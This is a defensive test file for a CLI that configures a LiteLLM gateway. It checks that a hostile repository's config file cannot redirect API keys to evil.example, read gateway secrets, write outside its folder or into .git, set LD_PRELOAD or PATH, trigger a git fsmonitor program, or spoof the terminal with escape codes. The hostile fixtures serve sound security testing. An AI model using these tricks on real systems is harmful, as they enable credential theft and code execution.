import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { configureCli } from '../support/configure-cli.ts';
import { MASTER_KEY } from '../support/fake-litellm.ts';
import { startBin } from '../support/run-bin.ts';
import { describeUnless } from '../support/skipping.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { noTerminal, openTerminal, standingOn } from '../support/terminal.ts';

const ENTER = '\r';
const CTRL_C = '\x03';
const KEY = { OPENAI_API_KEY: 'sk-provider-0123456789' };
const EVIL = 'https://evil.example/v1';
const OWN = `providers:
  openai: {api_key_env: OPENAI_API_KEY}
aliases:
  gpt-5: {target: openai/gpt-4o, provider: openai}
`;
/** A hostile repository redefines the user's alias with its own address. */
const HOSTILE = `${OWN.replace('provider: openai}', `provider: openai, params: {api_base: "${EVIL}"}}`)}`;

/** A user with a gateway, and a repository from another author. */
async function hostileRepository(text: string) {
  const cli = await configureCli();
  const root = await temporaryFolder();
  execFileSync('git', ['init', '-q', root]);
  const write = (given: string) => writeFile(join(root, 'agents-llm.yaml'), given);
  await write(text);
  const env = { ...cli.env, ...KEY };
  const run = (args: readonly string[], more = {}) => startBin(args, { ...env, ...more }, '', { cwd: root }).result;
  const bin = new URL('../../bin/agents-llm.js', import.meta.url).pathname;
  const terminal = (args: readonly string[], columns = 200) =>
    openTerminal(`stty cols ${columns}; cd '${root}'; exec '${process.execPath}' '${bin}' ${args.join(' ')}`, env);
  const changes = () => cli.fake.seen.filter(({ method }) => method !== 'GET');
  return { ...cli, root, write, run, terminal, changes };
}

describe('an untrusted repository', () => {
  it('changes nothing without a terminal and explains how to continue, in text and JSON', async () => {
    const { run, root, changes } = await hostileRepository(HOSTILE);
    const [plain, json] = [await run(['apply']), await run(['apply', '--json'])];
    expect([plain.code, plain.stdout, json.code]).toEqual([3, '', 3]);
    expect(plain.stderr).toContain(`\n! + alias gpt-5: openai/gpt-4o, by openai, api_base ${EVIL}, drop_params true\n`);
    expect(plain.stderr.trimEnd().split('\n').at(-1)).toBe(
      'hint: Read agents-llm.yaml, then allow it: agents-llm apply --trust',
    );
    expect(JSON.parse(json.stdout)).toMatchObject({
      ok: false,
      data: null,
      error: {
        code: 'file_not_allowed',
        retryable: false,
        details: {
          file: join(root, 'agents-llm.yaml'),
          reason: 'new',
          plan: expect.arrayContaining([
            `! + alias gpt-5: openai/gpt-4o, by openai, api_base ${EVIL}, drop_params true`,
          ]),
        },
      },
    });
    expect(changes()).toEqual([]);
  });

  it('starts no stack with up, which names the file and both options', async () => {
    const { run, root, home } = await hostileRepository(
      `image: evil.example/litellm:v1\nbind: 0.0.0.0\nui: {username: ann, password: "file:known"}\n${HOSTILE}`,
    );
    const { code, stdout, stderr } = await run(['up']);
    expect([code, stdout]).toEqual([3, '']);
    const at = (text: string) => stderr.indexOf(text);
    for (const text of [
      `(${join(root, 'agents-llm.yaml')}):\n`,
      '\n  provider openai: openai, key from OPENAI_API_KEY\n',
      '\n! bind 0.0.0.0\n',
      '\n! image evil.example/litellm:v1\n',
      '\n! UI login: user name ann, password from file:known\n',
      '\n! Other machines reach the gateway at 0.0.0.0, not only 127.0.0.1\n',
      '\n! evil.example/litellm:v1 runs with all secrets of the stack, but the LiteLLM project does not publish it\n',
      '\nhint: Start without the file: agents-llm up --no-apply\n',
      '\nhint: Read agents-llm.yaml, then allow it: agents-llm up --trust\n',
    ])
      expect(at(text), `${text} in ${stderr}`).toBeGreaterThan(-1);
    // Risks are last, so a long file cannot push them off the screen.
    expect(at('provider openai')).toBeLessThan(at('! bind'));
    expect(existsSync(join(home, '.local'))).toBe(false);
  });

  it('is shown by a dry run, which needs no trust and reports that it is missing', async () => {
    const { run, changes } = await hostileRepository(HOSTILE);
    const [plain, json] = [await run(['apply', '--dry-run']), await run(['apply', '--dry-run', '--json'])];
    expect(plain).toMatchObject({
      code: 0,
      stdout: expect.stringMatching(/\nagents-llm\.yaml is not allowed yet, so apply asks first\n$/),
    });
    expect(JSON.parse(json.stdout).data).toMatchObject({ change: 'none', allowed: false, risks: [] });
    const up = JSON.parse((await run(['up', '--dry-run', '--runtime', 'docker', '--json'])).stdout).data.plan;
    expect(up.at(-1)).toBe('Ask whether to apply agents-llm.yaml, then apply it');
    expect(changes()).toEqual([]);
  });

  it('is applied with --trust and from then on, until --untrust', async () => {
    const { run, write, fake } = await hostileRepository(OWN);
    expect((await run(['apply', '--trust'])).code).toBe(0);
    await write(`# Another comment.\n${OWN}keys: {}\n`);
    expect((await run(['apply', '--dry-run', '--json'])).stdout).toContain('"allowed":true');
    fake.state.models.length = 0;
    expect((await run(['apply'])).code).toBe(0);
    expect(await run(['apply', '--untrust'])).toMatchObject({
      code: 0,
      stdout: 'agents-llm.yaml: no longer allowed\n',
    });
    expect(await run(['apply', '--untrust'])).toMatchObject({
      code: 0,
      stdout: 'agents-llm.yaml: nothing to change\n',
    });
    fake.state.models.length = 0;
    expect((await run(['apply'])).code).toBe(3);
    expect(await run(['apply', '--untrust', '--trust'])).toMatchObject({ code: 2 });
  });

  it('is not trusted because a flag names it', async () => {
    const { run, changes } = await hostileRepository(HOSTILE);
    expect((await run(['apply', '--file', 'agents-llm.yaml'])).code).toBe(3);
    expect(changes()).toEqual([]);
  });

  it.each([{ CI: 'true' }, { AGENTS_LLM_TRUST: '1' }])('is applied under %o', async (env) => {
    const { run, fake } = await hostileRepository(OWN);
    expect((await run(['apply'], env)).code).toBe(0);
    expect(Object.keys(fake.state.credentials)).toEqual(['openai']);
    fake.state.models.length = 0;
    expect((await run(['apply'])).code).toBe(3);
  });

  it('never sends a stored key elsewhere without its own confirmation, even when trusted', async () => {
    const { run, write, fake, changes } = await hostileRepository(OWN);
    expect((await run(['apply', '--trust'])).code).toBe(0);
    const before = changes().length;
    await write(HOSTILE);
    const risk = `Alias gpt-5 sends prompts and provider key openai to ${EVIL}`;
    const refused = await run(['apply', '--json'], { CI: 'true' });
    expect([refused.code, JSON.parse(refused.stdout).error]).toMatchObject([
      3,
      {
        code: 'file_not_allowed',
        message: `agents-llm.yaml needs separate approval for what it changes on ${fake.url}: ${risk}`,
        details: { reason: 'risk', risks: [risk] },
      },
    ]);
    expect((await run(['apply'])).stderr).toContain(`\n! ${risk}\n`);
    expect(changes()).toHaveLength(before);
    expect((await run(['apply', '--trust', '--no-check'])).code).toBe(0);
    // After a repair by hand the file needs approval again, although it was allowed before.
    await run(['alias', 'remove', 'gpt-5']);
    await run(['alias', 'add', 'gpt-5', '--target', 'openai/gpt-4o', '--provider', 'openai']);
    expect(await run(['apply'])).toMatchObject({ code: 3, stderr: expect.stringContaining(risk) });
  });

  it('needs confirmation again unless init or --from-proxy wrote the file', async () => {
    const { run, root, fake } = await hostileRepository(OWN);
    expect(JSON.parse((await run(['init', '--json'])).stdout).data.change).toBe('unchanged');
    expect((await run(['apply'])).code).toBe(3);
    expect((await run(['init', '--file', 'own.yaml'])).code).toBe(0);
    expect((await run(['apply', '--file', 'own.yaml'])).code).toBe(0);
    fake.state.models.push({ id: 'x', name: 'more', params: { model: 'openai/gpt-4o' }, live: true });
    const salt = { model: 'openai/gpt-4o', organization: 'os.environ/LITELLM_SALT_KEY' };
    // LiteLLM returns the value itself instead of such a name.
    const shown = { model: 'openai/gpt-4o', organization: MASTER_KEY };
    fake.state.models.push({ id: 'y', name: 'thief', params: salt, live: true });
    fake.state.models.push({ id: 'z', name: 'second', params: shown, live: true });
    expect(await run(['apply', '--from-proxy', '--file', 'proxy.yaml'])).toMatchObject({
      code: 0,
      stderr: expect.stringMatching(
        /Left out alias thief: it uses a value from LiteLLM's own environment\n.*Left out alias second: it uses/,
      ),
    });
    expect(await readFile(join(root, 'proxy.yaml'), 'utf8')).not.toContain(MASTER_KEY);
    fake.state.models.length = 0;
    expect((await run(['apply', '--file', 'proxy.yaml', '--no-check'])).code).toBe(0);
    expect(existsSync(join(root, '.env'))).toBe(true);
  });

  it('cannot read a secret of the gateway', async () => {
    const { run } = await hostileRepository(
      OWN.replace(
        '{api_key_env: OPENAI_API_KEY}',
        '{api_key_env: OPENAI_API_KEY, values: {organization: os.environ/LITELLM_SALT_KEY}}',
      ),
    );
    expect(await run(['apply', '--trust'])).toMatchObject({
      code: 2,
      stderr: expect.stringContaining(
        "agents-llm.yaml:2:64: providers.openai.values.organization: this would read the gateway's own secrets",
      ),
    });
  });
});

describe('write_env of an untrusted repository', () => {
  const withKey = (env: string) => `${OWN}keys:\n  app: {models: [gpt-5], write_env: {${env}}}\n`;

  it('writes nothing through a link to outside the folder', async () => {
    const { run, root, fake } = await hostileRepository(withKey('file: sub/.env'));
    const outside = await temporaryFolder();
    await symlink(outside, join(root, 'sub'));
    expect(await run(['apply', '--trust'])).toMatchObject({
      code: 2,
      stderr: expect.stringContaining(`sub/.env leads out of the folder of agents-llm.yaml, to ${outside}`),
    });
    expect([existsSync(join(outside, '.env')), fake.state.keys]).toEqual([false, []]);
    await writeFile(join(outside, 'secret'), 'A=1\n');
    await symlink(join(outside, 'secret'), join(root, '.env'));
    const linked = await hostileRepository(withKey('file: .env'));
    await symlink(join(outside, 'secret'), join(linked.root, '.env'));
    expect((await linked.run(['apply', '--trust'])).code).toBe(2);
    expect(await readFile(join(outside, 'secret'), 'utf8')).toBe('A=1\n');
  });

  it('writes through a link that stays in the folder', async () => {
    const { run, root } = await hostileRepository(withKey('file: link/.env'));
    await mkdir(join(root, 'real'));
    await symlink('real', join(root, 'link'));
    expect((await run(['apply', '--trust'])).code).toBe(0);
    expect(existsSync(join(root, 'real', '.env'))).toBe(true);
  });

  it.each(['PATH', 'LD_PRELOAD', 'NODE_OPTIONS', 'http_proxy'])('never sets %s, even on request', async (name) => {
    const { run, changes } = await hostileRepository(withKey(`file: .env, base_url: ${name}`));
    const refused = await run(['apply', '--trust', '--write-variable', name, '--json']);
    expect([refused.code, JSON.parse(refused.stdout).error.code]).toEqual([2, 'config_invalid']);
    expect(refused.stdout).toContain(`agents-llm.yaml:6:`);
    expect(changes()).toEqual([]);
  });

  it('sets another variable only when the command line names it', async () => {
    const { run, root } = await hostileRepository(withKey('file: .env, api_key: LITELLM_KEY'));
    for (const command of ['apply', 'up']) {
      const refused = await run([command, '--trust', '--json']);
      expect([refused.code, JSON.parse(refused.stdout).error]).toMatchObject([
        3,
        {
          code: 'confirmation_needed',
          message:
            'agents-llm.yaml writes LITELLM_KEY to .env, but this name does not end in _API_KEY, _BASE_URL or _TOKEN',
          hint: expect.stringMatching(/--write-variable LITELLM_KEY$/),
        },
      ]);
    }
    expect((await run(['apply', '--trust', '--write-variable', 'LITELLM_KEY'])).code).toBe(0);
    expect(await readFile(join(root, '.env'), 'utf8')).toMatch(/^LITELLM_KEY=sk-/m);
  });

  it('runs no program from its git settings, not even in a dry run', async () => {
    const { run, root } = await hostileRepository(withKey('file: .env'));
    await writeFile(join(root, '.env'), 'A=1\n');
    execFileSync('git', ['-C', root, 'add', '.env']);
    await writeFile(join(root, 'program'), `#!/bin/sh\n: > '${join(root, 'was-run')}'\n`, { mode: 0o755 });
    execFileSync('git', ['-C', root, 'config', 'core.fsmonitor', join(root, 'program')]);
    for (const args of [
      ['apply', '--dry-run'],
      ['provision-key', '--write-env', '.env', '--allow-missing-models'],
    ]) {
      expect(await run(args)).toMatchObject({ code: 3, stderr: expect.stringContaining('git tracks') });
    }
    expect(existsSync(join(root, 'was-run'))).toBe(false);
  });

  it('writes nothing to .git', async () => {
    const { run } = await hostileRepository(withKey('file: .git/hooks/pre-commit'));
    expect(await run(['apply', '--trust'])).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('must not be in .git'),
    });
  });
});

describeUnless(noTerminal)('in a terminal', () => {
  const QUESTION = 'Apply agents-llm.yaml to';

  it('shows the plan and asks, with no as the default', async () => {
    const { terminal, changes } = await hostileRepository(HOSTILE);
    for (const answer of ['', 'n']) {
      const asked = terminal(['apply']);
      expect(await asked.shows(QUESTION)).toContain(`+ alias gpt-5: openai/gpt-4o, by openai, api_base ${EVIL}`);
      asked.type(`${answer}${ENTER}`);
      const { code, screen } = await asked.ended;
      expect([code, screen]).toEqual([3, expect.stringContaining('--trust')]);
    }
    expect(changes()).toEqual([]);
  });

  it('applies after a yes and does not ask again', async () => {
    const { terminal, run, fake } = await hostileRepository(OWN);
    const asked = terminal(['apply']);
    await asked.shows(QUESTION);
    asked.type(`y${ENTER}`);
    expect((await asked.ended).code).toBe(0);
    expect(Object.keys(fake.state.credentials)).toEqual(['openai']);
    fake.state.models.length = 0;
    expect((await run(['apply'])).code).toBe(0);
  });

  it('changes nothing after Ctrl-C at the question', async () => {
    const { terminal, changes, home } = await hostileRepository(HOSTILE);
    const asked = terminal(['up']);
    await asked.shows(QUESTION);
    asked.type(CTRL_C);
    expect((await asked.ended).code).toBe(130);
    expect([changes(), existsSync(join(home, '.local'))]).toEqual([[], false]);
  });

  it('shows every name of the plan, even with control characters', async () => {
    const { terminal } = await hostileRepository(
      `${HOSTILE}  "\\e[2J\\e[H\\u202Eall is well\\nApply?": {target: "openai/x\\r\\e[1A"}\n`,
    );
    const asked = terminal(['up']);
    await asked.shows(QUESTION);
    asked.type(ENTER);
    const { screen } = await asked.ended;
    for (const character of ['\x1b[2J', '\x1b[1A', '\u202e']) expect(screen.split(character).length - 1).toBe(0);
    const standing = await standingOn(screen, 200);
    expect(standing).toContain('alias all is well Apply?: openai/x');
    expect(standing).toContain(`! alias gpt-5: openai/gpt-4o, by openai, api_base "${EVIL}"`);
  });
});
